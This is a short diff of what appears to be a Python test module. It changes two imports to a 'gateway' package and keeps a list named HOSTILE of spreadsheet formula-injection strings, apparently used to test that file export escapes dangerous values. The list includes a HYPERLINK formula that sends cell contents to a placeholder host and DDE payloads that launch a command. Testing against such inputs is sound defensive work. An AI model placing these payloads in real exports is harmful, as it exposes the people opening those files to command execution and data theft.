@@ -12,10 +12,10 @@ from services.common import text
 from services.common.context import Actor
 from services.confirmation.schemas import RevokeRequest
 from services.enrollment import domain
-from services.enrollment import fileformat as ff
+from gateway import fileformat as ff
 from services.enrollment.schemas import Removal
 from services.registry.schemas import OrgUnitCreate
-from services.reporting import render
+from gateway import render
 
 HOSTILE = ['=HYPERLINK("http://x.example/?"&A1,"x")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+2", "\r=1+2"]
